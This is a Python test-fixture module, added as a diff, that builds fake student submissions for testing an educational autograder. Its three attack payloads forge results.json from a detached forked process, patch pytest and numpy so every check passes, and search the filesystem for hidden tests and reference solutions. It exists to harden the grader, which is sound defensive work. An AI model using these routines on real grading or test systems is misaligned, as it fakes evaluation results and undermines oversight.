@@ -1,0 +1,282 @@
+"""Hostile and clumsy submissions for the autograder tests (#12).
+
+Each builder writes one submission folder from the instructor's repository (``repo``) and
+its student edition (``edition``). The attack code is what a student could upload: it runs
+wherever the autograder runs submitted code.
+"""
+
+from __future__ import annotations
+
+import re
+import shutil
+from pathlib import Path
+
+__all__ = ["SUBMISSIONS", "solution_files", "file_tasks", "HIDDEN_MARK", "FORGED"]
+
+FORGED = "FORGED BY THE SUBMISSION"
+HIDDEN_MARK = "PEEK"
+
+_FORGE_ATEXIT = '''
+
+# --- an attack: rewrite results.json at exit, and from a process that outlives the grader
+import atexit as _atexit
+import glob as _glob
+import json as _json
+import os as _os
+import sys as _sys
+import time as _time
+
+
+def _targets():
+    paths = {"/autograder/results/results.json"}
+    for i, arg in enumerate(_sys.argv):
+        if arg in ("--gradescope", "--results") and i + 1 < len(_sys.argv):
+            paths.add(_sys.argv[i + 1])
+    for value in _os.environ.values():
+        if "results" in value and value.startswith("/"):
+            paths.add(value.rstrip("/") + "/results.json")
+    for cmdline in _glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            parts = open(cmdline, "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        for k, part in enumerate(parts):
+            text = part.decode("utf-8", "replace")
+            if text.endswith("results.json"):
+                paths.add(text)
+            if text == "--results" and k + 1 < len(parts):
+                paths.add(parts[k + 1].decode("utf-8", "replace"))
+    return paths
+
+
+def _forge():
+    tests = [{"name": "everything", "score": 999, "max_score": 999, "status": "passed"}]
+    data = {"score": 999, "output": "FORGED BY THE SUBMISSION", "tests": tests}
+    for path in _targets():
+        try:
+            with open(path, "w") as f:
+                _json.dump(data, f)
+        except OSError:
+            pass
+
+
+_atexit.register(_forge)
+if not _os.environ.get("_FORGER_CHILD"):
+    _os.environ["_FORGER_CHILD"] = "1"
+    try:
+        if _os.fork() == 0:
+            _os.setsid()
+            if _os.fork() == 0:
+                for _ in range(40):
+                    _time.sleep(0.25)
+                    _forge()
+            _os._exit(0)
+    except OSError:
+        pass
+'''
+
+_FORGE_PYTEST = '''
+
+# --- an attack: make pytest report every test as passed, and numpy's checks pass
+try:
+    import _pytest.reports as _reports
+
+    _original = _reports.TestReport.from_item_and_call
+
+    def _passed(cls, item, call):
+        report = _original(item, call)
+        report.outcome, report.longrepr = "passed", None
+        return report
+
+    _reports.TestReport.from_item_and_call = classmethod(_passed)
+except Exception:
+    pass
+import numpy.testing as _npt
+
+_npt.assert_allclose = lambda *args, **kwargs: None
+_npt.assert_array_equal = lambda *args, **kwargs: None
+'''
+
+_PEEK = '''
+
+# --- an attack: look for the hidden tests and the reference solutions, and show them
+def _peek():
+    import glob, os, re
+
+    roots = {"/autograder", os.getcwd()}
+    for key, value in os.environ.items():
+        if key.startswith("AUTOGRADER") and value.startswith("/"):
+            roots.add(value)
+    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            parts = open(cmdline, "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        for k, part in enumerate(parts[:-1]):
+            if part in (b"--source", b"--submission", b"--results"):
+                roots.add(os.path.dirname(parts[k + 1].decode("utf-8", "replace")))
+    here = os.path.dirname(os.path.abspath(__file__))
+    for _ in range(4):
+        roots.add(here)
+        here = os.path.dirname(here)
+    found, seen = [], set()
+    for root in sorted(roots):
+        if not os.path.isdir(root) or root in ("/", "/proc", "/sys", "/usr", "/dev"):
+            continue
+        for folder, dirs, files in os.walk(root):
+            if folder.count(os.sep) - root.count(os.sep) > 4:
+                dirs[:] = []
+            for name in files:
+                path = os.path.join(folder, name)
+                if not name.endswith(".py") or path in seen:
+                    continue
+                seen.add(path)
+                try:
+                    text = open(path, encoding="utf-8", errors="replace").read()
+                except OSError:
+                    continue
+                if "BEGIN HIDDEN TESTS" in text:
+                    hidden = text[text.index("BEGIN HIDDEN TESTS"):]
+                    found.append("hidden " + " ".join(re.findall(r"def (test_\\w+)", hidden)))
+                if "# BEGIN SOLUTION A" in text:
+                    start = text.index("# BEGIN SOLUTION A")
+                    found.append("solution " + text[start:start + 300])
+    return "PEEK found %d: %s" % (len(found), " | ".join(found))
+
+
+print(_peek())
+'''
+
+
+def _peek_body(indent: str) -> str:
+    return f"{indent}raise RuntimeError(_peek())\n"
+
+
+def solution_files(repo: Path) -> list[str]:
+    """Library files with solution regions (the files students submit)."""
+    from tinygrad_edu.grading.student import has_solution_markers  # noqa: PLC0415
+
+    out = []
+    for path in sorted((repo / "tinygrad_edu").rglob("*.py")):
+        if has_solution_markers(path.read_text(encoding="utf-8")):
+            out.append(path.relative_to(repo).as_posix())
+    return out
+
+
+def file_tasks(repo: Path) -> dict[str, set]:
+    """File -> the tasks whose solution regions it holds."""
+    return {
+        f: set(re.findall(r"^\s*# BEGIN SOLUTION (\S+)", (repo / f).read_text(), re.M))
+        for f in solution_files(repo)
+    }
+
+
+def _region(text: str, task: str) -> tuple[int, int, str]:
+    """(start, end) character offsets of the body of the first region of ``task``."""
+    m = re.search(rf"^([ \t]*)# BEGIN SOLUTION {re.escape(task)}\n", text, re.M)
+    end = text.index("# END SOLUTION", m.end())
+    end = text.rindex("\n", 0, end) + 1
+    return m.end(), end, m.group(1)
+
+
+def _write(folder: Path, files: dict[str, str]) -> Path:
+    for rel, text in files.items():
+        path = folder / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    return folder
+
+
+def _files(root: Path, names) -> dict[str, str]:
+    return {f: (root / f).read_text(encoding="utf-8") for f in names}
+
+
+def reference(repo, edition, out):
+    return _write(out, _files(repo, solution_files(repo)))
+
+
+def edition_untouched(repo, edition, out):
+    return _write(out, _files(edition, solution_files(repo)))
+
+
+def forge_atexit(repo, edition, out):
+    files = _files(edition, solution_files(repo))
+    files["tinygrad_edu/symbolic/graph.py"] += _FORGE_ATEXIT
+    return _write(out, files)
+
+
+def forge_pytest(repo, edition, out):
+    files = _files(edition, solution_files(repo))
+    for f in ("tinygrad_edu/symbolic/graph.py", "tinygrad_edu/nn/functional.py"):
+        files[f] += _FORGE_PYTEST
+    return _write(out, files)
+
+
+def peek(repo, edition, out):
+    files = _files(edition, solution_files(repo))
+    graph = "tinygrad_edu/symbolic/graph.py"
+    text = files[graph] + _PEEK
+    files[graph] = re.sub(
+        r'^([ \t]*)raise NotImplementedError\("A1\.1: [^"]*"\)\n',
+        lambda m: _peek_body(m.group(1)), text, count=1, flags=re.M,
+    )  # fmt: skip
+    return _write(out, files)
+
+
+def endless_loop(repo, edition, out):
+    """The reference, except that mse_loss (A3.2) never returns."""
+    files = _files(repo, solution_files(repo))
+    f = "tinygrad_edu/nn/functional.py"
+    start, end, indent = _region(files[f], "A3.2")
+    files[f] = files[f][:start] + f"{indent}while True:\n{indent}    pass\n" + files[f][end:]
+    return _write(out, files)
+
+
+SYNTAX_FILE = "tinygrad_edu/ops/elementwise.py"
+
+
+def syntax_error(repo, edition, out):
+    """The reference, with one file that does not parse."""
+    files = _files(repo, solution_files(repo))
+    start, _, indent = _region(files[SYNTAX_FILE], "A1.3")
+    broken = f"{indent}return (g if needs[0] else None,,)\n"
+    files[SYNTAX_FILE] = files[SYNTAX_FILE][:start] + broken + files[SYNTAX_FILE][start:]
+    return _write(out, files)
+
+
+def whole_repository(repo, edition, out):
+    """The whole repository (tests, docs, every __init__.py), two folders deep."""
+    from tinygrad_edu.grading.student import _walk  # noqa: PLC0415
+
+    dest = out / "upload" / "tinygrad_edu-main"
+    for rel in _walk(repo, set()):
+        if rel.parts[0] in ("notebooks", "site") or rel.suffix in (".ipynb", ".png", ".npz"):
+            continue
+        (dest / rel).parent.mkdir(parents=True, exist_ok=True)
+        shutil.copyfile(repo / rel, dest / rel)
+    return out
+
+
+RENAMED = "graph (1).py"
+
+
+def renamed_file(repo, edition, out):
+    """The reference as single files, graph.py saved by a browser as ``graph (1).py``."""
+    files = {}
+    for f in solution_files(repo):
+        name = Path(f).name
+        files[RENAMED if name == "graph.py" else name] = (repo / f).read_text()
+    return _write(out, files)
+
+
+SUBMISSIONS = {
+    "reference": reference,
+    "edition": edition_untouched,
+    "forge_atexit": forge_atexit,
+    "forge_pytest": forge_pytest,
+    "peek": peek,
+    "endless_loop": endless_loop,
+    "syntax_error": syntax_error,
+    "whole_repository": whole_repository,
+    "renamed_file": renamed_file,
+}
